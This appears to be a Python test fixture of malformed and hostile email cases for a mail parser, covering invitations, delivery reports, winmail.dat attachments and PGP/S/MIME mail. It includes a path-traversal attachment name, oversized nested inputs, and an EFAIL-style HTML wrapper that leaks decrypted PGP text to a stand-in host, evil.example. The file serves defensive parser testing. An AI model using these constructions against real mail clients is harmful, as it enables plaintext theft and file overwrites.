"""Mail of particular kinds: invitations, reports, winmail.dat, protected mail."""

from base64 import b64encode

from tests.mail.nasty.table import Nasty, mail, parts, text
from tests.mail.nasty.tnef_maker import attribute, message_within, new_file, old_file, tnef

EVENT = (
    b"BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VTIMEZONE\r\nTZID:Europe/Berlin\r\n"
    b"BEGIN:STANDARD\r\nDTSTART:19961027T030000\r\nEND:STANDARD\r\nEND:VTIMEZONE\r\n"
    b"BEGIN:VEVENT\r\nUID:1@x\r\nSUMMARY:Pl\xc3\xa4ne\\, 2\r\n "
    b"024\r\nDTSTART;TZID=Europe/Berlin:20240301T100000\r\nDURATION:PT90M\r\n"
    b'ORGANIZER;CN="Ada; L":MAILTO:ada@x.example\r\n'
    b"ATTENDEE;CN=Ben;PARTSTAT=ACCEPTED:mailto:ben@x.example\r\n"
    b"BEGIN:VALARM\r\nSUMMARY:not this\r\nEND:VALARM\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
)
STATUS = (
    b"Content-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.example\r\n\r\n"
    b"Final-Recipient: rfc822; no@x.example\r\nAction: failed\r\nStatus: 5.1.1 (unknown)\r\n"
    b"Diagnostic-Code: smtp; 550 5.1.1\r\n no such user\r\n\r\n"
    b"Original-Recipient: rfc822;late@x.example\r\nAction: Delayed\r\nStatus: 4.4.1\r\n"
)
RETURNED = b"Content-Type: text/rfc822-headers\r\n\r\nMessage-ID: <sent@x.example>\r\n"
ARMOUR = b"-----BEGIN PGP MESSAGE-----\r\n\r\nhQEM\r\n-----END PGP MESSAGE-----\r\n"


def calendar(event: bytes, kind: bytes = b"text/calendar; charset=utf-8") -> bytes:
    return parts(b"\r\nHi", b"Content-Type: " + kind + b"\r\n\r\n" + event, kind=b"alternative")


def winmail(octets: bytes, kind: bytes = b"application/ms-tnef; name=winmail.dat") -> bytes:
    encoded = b64encode(octets)
    header = b"Content-Type: " + kind + b"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    return parts(b"\r\nHi", header + encoded)


FILES = tnef(
    attribute(1, 0x9007, b"\xe3\x04\0\0\0\0\0\0"),
    old_file("Счёт.txt".encode("cp1251"), b"one"),
    new_file("../ü.pdf", b"two"),
)
MANY_FILES = (
    b"Content-Type: application/ms-tnef\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    + b64encode(tnef(*[old_file(b"a", b"x")] * 500))
)

CASES = [
    Nasty("an invitation", calendar(EVENT),
          {"text": "Hi", "event": ("Pläne, 2024", "2024-03-01T10:00:00 Europe/Berlin"),
           "marks": {"invitation"}, "safe": ["attachment.ics"]}),
    Nasty("an invitation with bare line feeds", calendar(EVENT.replace(b"\r\n", b"\n")),
          {"event": ("Pläne, 2024", "2024-03-01T10:00:00 Europe/Berlin")}),
    Nasty("an invitation for a whole day",
          calendar(b"BEGIN:VEVENT\r\nDTSTART;VALUE=DATE:20240229\r\nEND:VEVENT"),
          {"event": ("", "2024-02-29")}),
    Nasty("an invitation in UTC", calendar(b"BEGIN:VEVENT\nDTSTART:20240301T090000Z\n"),
          {"event": ("", "2024-03-01T09:00:00Z")}),
    Nasty("an invitation on the 30th of February",
          calendar(b"BEGIN:VEVENT\nSUMMARY:x\nDTSTART:20240230T090000Z\nEND:VEVENT"),
          {"event": ("x", "None")}),
    Nasty("a calendar without an event", calendar(b"BEGIN:VCALENDAR\nEND:VCALENDAR"),
          {"event": None, "marks": set(), "defects": {"calendar"}}),
    Nasty("a calendar of 100,000 levels", calendar(b"BEGIN:VEVENT\n" * 100_000),
          {"defects": {"calendar"}}),
    Nasty("a delivery report",
          parts(b"\r\nSorry", STATUS, RETURNED, kind=b"report",
                more=b"; report-type=delivery-status"),
          {"text": "Sorry", "marks": {"delivery-report"},
           "deliveries": [("no@x.example", "failed", "5.1.1"),
                          ("late@x.example", "delayed", "4.4.1")]}),
    Nasty("a delivery report that says nothing",
          parts(b"Content-Type: message/delivery-status\r\n\r\n\r\n", kind=b"report"),
          {"deliveries": [], "defects": {"report"}}),
    Nasty("a report of Exim",
          mail(b"Sorry", header=b"X-Failed-Recipients: a@x.example,b@x.example\r\n"),
          {"deliveries": [("a@x.example", "failed", ""), ("b@x.example", "failed", "")]}),
    Nasty("a receipt",
          parts(b"\r\nRead", b"Content-Type: message/disposition-notification\r\n\r\n"
                             b"Disposition: manual-action/MDN-sent-manually; displayed\r\n",
                kind=b"report"), {"text": "Read", "marks": {"disposition-notification"}}),
    Nasty("a list, automatic, of nobody who reads",
          mail(header=b"List-Id: <l.x.example>\r\nAuto-Submitted: auto-generated\r\n")
          .replace(b"ada@", b"no-reply@"),
          {"marks": {"list", "bulk", "automatic", "no-reply"}}),
    Nasty("a winmail.dat", winmail(FILES),
          {"text": "Hi", "names": ["Счёт.txt", "../ü.pdf"], "safe": ["Счёт.txt", "ü.pdf"],
           "octets": [b"one", b"two"]}),
    Nasty("a winmail.dat that is called any octets",
          winmail(FILES, b"application/octet-stream; name=WINMAIL.DAT"),
          {"names": ["Счёт.txt", "../ü.pdf"]}),
    Nasty("a winmail.dat that was not encoded", text(FILES, b"application/ms-tnef", b"binary"),
          {"names": ["Счёт.txt", "../ü.pdf"], "octets": [b"one", b"two"]}),
    Nasty("a winmail.dat that is cut", winmail(FILES[: FILES.index(b"one") + 1]),
          {"safe": ["Счёт.txt", "winmail.dat"], "defects": {"tnef"}}),
    Nasty("a winmail.dat that is none", winmail(b"hello"),
          {"safe": ["winmail.dat"], "octets": [b"hello"], "defects": {"tnef"}}),
    Nasty("a winmail.dat within a winmail.dat", winmail(tnef(message_within(FILES))),
          {"names": ["Счёт.txt", "../ü.pdf"]}),
    Nasty("five winmail.dat with 500 files each",
          parts(*[MANY_FILES] * 5), {"text": "", "defects": {"too-many-files"}}),
    Nasty("the text in a winmail.dat",
          mail(b64encode(tnef(attribute(1, 0x800C, b"gr\xfcn\0"))), header=b"Content-Transfer-"
               b"Encoding: base64\r\nContent-Type: application/ms-tnef\r\n"),
          {"text": "grün", "from": "plain", "names": []}),
    Nasty("encrypted by PGP",
          parts(b"Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1",
                b"Content-Type: application/octet-stream; name=encrypted.asc\r\n\r\n" + ARMOUR,
                kind=b"encrypted"),
          {"text": "", "protection": {"pgp-encrypted"},
           "safe": ["attachment.asc", "encrypted.asc"]}),
    Nasty("encrypted by PGP in the text", text(ARMOUR),
          {"text": ARMOUR.decode().replace("\r\n", "\n").strip(), "protection": {"pgp-encrypted"}}),
    Nasty("encrypted text beside HTML that would take it along",
          parts(b'Content-Type: text/html\r\n\r\nHi<img src="http://evil.example/',
                b"\r\n" + ARMOUR, b'Content-Type: text/html\r\n\r\n">'),
          {"text": 'Hi\n\n">', "links": [], "protection": {"pgp-encrypted"}}),
    Nasty("signed by PGP",
          parts(b"\r\nHi", b"Content-Type: application/pgp-signature; name=s.asc\r\n\r\nx",
                kind=b"signed"), {"text": "Hi", "protection": {"pgp-signed"}, "safe": ["s.asc"]}),
    Nasty("signed by PGP in the text",
          text(b"-----BEGIN PGP SIGNED MESSAGE-----\r\nHash: SHA256\r\n\r\nHi\r\n"),
          {"protection": {"pgp-signed"}}),
    Nasty("encrypted by S/MIME",
          mail(b"MIAG", header=b"Content-Transfer-Encoding: base64\r\nContent-Type: "
               b"application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\n"),
          {"text": "", "protection": {"smime-encrypted"}, "safe": ["smime.p7m"]}),
    Nasty("encrypted by S/MIME, labelled anew on the way",
          parts(b"Content-Type: application/octet-stream; name=smime.p7m\r\n\r\nx"),
          {"protection": {"smime-encrypted"}, "safe": ["smime.p7m"]}),
    Nasty("signed by S/MIME",
          parts(b"\r\nHi", b"Content-Type: application/x-pkcs7-signature\r\n\r\nx",
                kind=b"signed"),
          {"text": "Hi", "protection": {"smime-signed"}, "safe": ["attachment.p7s"]}),
    Nasty("signed by S/MIME as a whole",
          mail(b"MIAG", header=b"Content-Transfer-Encoding: base64\r\nContent-Type: "
               b"application/pkcs7-mime; smime-type=signed-data\r\n"),
          {"protection": {"smime-signed"}}),
]  # fmt: skip
